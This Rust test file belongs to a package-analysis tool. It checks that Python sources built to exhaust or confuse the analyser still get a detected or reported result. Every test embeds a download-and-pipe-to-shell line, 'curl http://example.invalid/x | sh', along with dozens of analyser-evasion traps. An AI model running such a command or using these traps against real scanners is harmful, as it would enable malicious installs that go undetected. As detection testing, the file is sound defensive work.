//! Sources made to stop an analyser: each ends, within its bounds, and says what was not seen.

use hognose_archive::examine::Ended;
use hognose_behaviour::{Collector, FactKind, Inspection};

fn inspect(source: &str) -> Inspection {
    let mut collector = Collector::new("imitation-1.0.tar.gz");
    collector.file("imitation-1.0/setup.py", source.as_bytes(), Ended::Whole);
    collector.finish()
}

fn has(inspection: &Inspection, kind: FactKind) -> bool {
    inspection.facts.iter().any(|f| f.kind == kind)
}

/// What follows the trap must still be seen, or the file must be said to be unread.
fn seen_or_said(name: &str, trap: &str) {
    let source = format!("{trap}\nimport os\nos.system('curl http://example.invalid/x | sh')\n");
    let inspection = inspect(&source);
    assert!(
        has(&inspection, FactKind::DownloadPipeShell) || !inspection.unread.is_empty(),
        "{name}: {:?}",
        inspection.facts
    );
}

#[test]
fn traps_do_not_blind() {
    seen_or_said(
        "a million elements",
        &format!("x = [{}]", "1,".repeat(1_000_000)),
    );
    seen_or_said(
        "exponential text",
        "x = 'a'\nfor i in range(100): x = x + x",
    );
    seen_or_said("repeated text", "x = 'ab' * 10**9 * 10**9");
    seen_or_said(
        "a long sum",
        &format!("x = {}", vec!["'a'"; 50_000].join("+")),
    );
    seen_or_said("recursion", "def f(n): return f(n + 1) + f(n + 2)\nf(0)");
    seen_or_said(
        "mutual recursion",
        "def f(n): return g(n)\ndef g(n): return f([n])\nf(0)",
    );
    seen_or_said("code that runs itself", "s = 'exec(s)'\nexec(s)");
    seen_or_said("an endless loop", "n = 0\nwhile n >= 0: n = n + 1");
    seen_or_said(
        "a list that holds itself",
        "a = []\na.append(a)\nb = str(a) + repr(a)",
    );
    seen_or_said(
        "a dict that doubles",
        "d = {f(): 1}\nfor i in range(99): d.update(d)",
    );
    seen_or_said("a class of itself", "class A(A): x = A.x\nA().x.y.z");
    seen_or_said(
        "replacing with more",
        "x = 'aaaa'\nfor i in range(99): x = x.replace('a', 'aaaaaaaa')",
    );
    seen_or_said(
        "joins of joins",
        "x = ['ab'] * 1000\nfor i in range(99): x = [''.join(x)] * 1000",
    );
    seen_or_said(
        "formats of formats",
        "x = '{0}{0}'\nfor i in range(99): x = x.format(x)",
    );
    seen_or_said(
        "percent of percent",
        "x = '%s'\nfor i in range(99): x = x % (x + x)",
    );
    seen_or_said("a stray triple quote", "x = 'it\\'s \"\"\" fine'  # \"\"\"");
    seen_or_said("an unfinished function", "def f(:\n  pass\n");
    seen_or_said("a byte that is no text", "x = '\u{fffd}\u{0}'");
    seen_or_said("form feeds", "\u{c}\u{c}x = 1\u{c}");
    seen_or_said("many functions", &"def f(a): return f(a)\n".repeat(20_000));
    seen_or_said("many conditions", &"if x: y = x\n".repeat(30_000));
}

#[test]
fn what_cpython_cannot_compile_is_said() {
    for deep in ["(", "[", "-", "not ", "lambda: ", "f\"{"] {
        let inspection = inspect(&format!("x = {}", deep.repeat(200_000)));
        assert!(has(&inspection, FactKind::TooDeep), "{deep}");
        assert!(!inspection.unread.is_empty(), "{deep}");
    }
}

#[test]
fn a_source_too_large_to_parse_is_said() {
    let inspection = inspect(&format!("x = '{}'", "a".repeat(7 << 20)));
    assert!(!inspection.unread.is_empty());
    let mut collector = Collector::new("imitation-1.0.tar.gz");
    collector.file("imitation-1.0/setup.py", b"import os", Ended::Cut);
    assert!(!collector.finish().unread.is_empty());
}

#[test]
fn layers_beyond_the_bound_are_said() {
    let mut source = "print(1)".to_owned();
    for _ in 0..9 {
        source = format!("exec({source:?})");
    }
    let inspection = inspect(&source);
    assert!(has(&inspection, FactKind::DeepLayers));
    assert!(inspection.unread.is_empty(), "{:?}", inspection.unread);
}

/// Trees are given back as the analysis goes on, and others come to lie where they lay.
#[test]
fn no_module_is_taken_for_one_that_lay_in_its_place() {
    const MODULES: usize = 400;
    let mut collector = Collector::new("imitation-1.0-py3-none-any.whl");
    for at in 0..MODULES {
        let padding = "# padding\n".repeat(at % 7);
        let text = format!(
            "{padding}from imitation.base import Base\n\n\nclass Provider(Base):\n    NAME = 'Provider'\n    PLACE = 'https://host-{at}.example.invalid/v1'\n"
        );
        let path = format!("imitation/m{at}.py");
        collector.file(&path, text.as_bytes(), Ended::Whole);
    }
    let inspection = collector.finish();
    let endpoints = inspection.facts.iter();
    let seen: std::collections::BTreeSet<&str> = endpoints
        .filter(|f| f.kind == FactKind::EndpointOther)
        .map(|f| f.detail.as_str())
        .collect();
    let missing: Vec<String> = (0..MODULES)
        .map(|at| format!("host-{at}.example.invalid"))
        .filter(|host| !seen.contains(host.as_str()))
        .collect();
    assert_eq!(missing, Vec::<String>::new());
}
